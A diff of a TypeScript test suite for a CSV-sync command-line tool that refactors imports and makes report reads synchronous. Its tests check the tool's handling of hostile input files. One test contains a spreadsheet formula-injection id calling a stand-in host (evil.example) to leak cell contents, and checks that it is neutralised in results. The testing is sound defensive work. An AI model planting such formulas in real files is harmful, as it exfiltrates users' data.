@@ -9,7 +9,10 @@ import os from 'node:os';
 import path from 'node:path';
 import { startEmulator, type EmulatorHandle } from '../../src/emulator/index.js';
 import { ExitCode } from '../../src/exit-codes.js';
-import { HOSTILE_DIR, findSecret, logLines, readReport, readSummary, runCli, stopChildren, uniqueToken, type CliResult } from '../support/faults/scenario.js';
+import { type CliResult, logLines, runCli, stopChildren } from '../support/cli.js';
+import { HOSTILE_DIR } from '../support/faults/dataset.js';
+import { readReport, readSummary } from '../support/report.js';
+import { findSecret, uniqueToken } from '../support/secrets.js';
 
 const token = uniqueToken('hostile');
 let emulator: EmulatorHandle;
@@ -43,7 +46,7 @@ async function expectRefused(run: CliResult, place: string): Promise<void> {
   for (const output of [run.stdout, run.stderr]) expect(output).not.toMatch(/^\s*at .+:\d+:\d+\)?$/m);
   expect(() => logLines(run.stdout)).not.toThrow();
   // A structural problem leaves no results.csv (no row was classified), only the summary.
-  const summary = await readSummary(reportDir());
+  const summary = readSummary(reportDir());
   expect(summary).toMatchObject({ status: 'rejected', exitCode: ExitCode.InputRejected });
   expect(summary.message).toContain(place);
   expect(emulator.state().starts).toEqual([]); // not one request arrived
@@ -99,7 +102,7 @@ const asRoot = process.getuid?.() === 0;
 test('a header with no rows is not an error: exit 0, a report, nothing sent', async () => {
   const run = await sync(path.join(HOSTILE_DIR, 'header-only.csv'));
   expect({ code: run.code, stderr: run.stderr }).toMatchObject({ code: ExitCode.Ok });
-  const { summary, results } = await readReport(reportDir());
+  const { summary, results } = readReport(reportDir());
   expect(summary).toMatchObject({ status: 'succeeded', counts: { rows: 0, customers: 0 } });
   expect(results).toEqual([]);
   expect(emulator.state().starts).toEqual([]);
@@ -109,7 +112,7 @@ test('a header with no rows is not an error: exit 0, a report, nothing sent', as
 test('mixed CRLF/LF with blank lines and quoted line breaks: each record at its own line, all delivered', async () => {
   const run = await sync(path.join(HOSTILE_DIR, 'mixed-newlines.csv'));
   expect(run.code).toBe(ExitCode.Ok);
-  const { results } = await readReport(reportDir());
+  const { results } = readReport(reportDir());
   expect(results.map((r) => [r.line, r.status])).toEqual([
     ['2', 'updated'],
     ['4', 'updated'],
@@ -124,6 +127,6 @@ test('ids that look like formulas are sent as they are, and neutralised in resul
   expect(run.code).toBe(ExitCode.Ok);
   const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '2009-1002', '-2009-1003', '@2009-1004'];
   expect(Object.keys(emulator.state().customers).sort()).toEqual([...ids].sort());
-  const { results } = await readReport(reportDir());
+  const { results } = readReport(reportDir());
   expect(results.map((r) => r.document_id)).toEqual(ids.map((id) => (/^[=+\-@\t\r]/.test(id) ? `'${id}` : id)));
 });
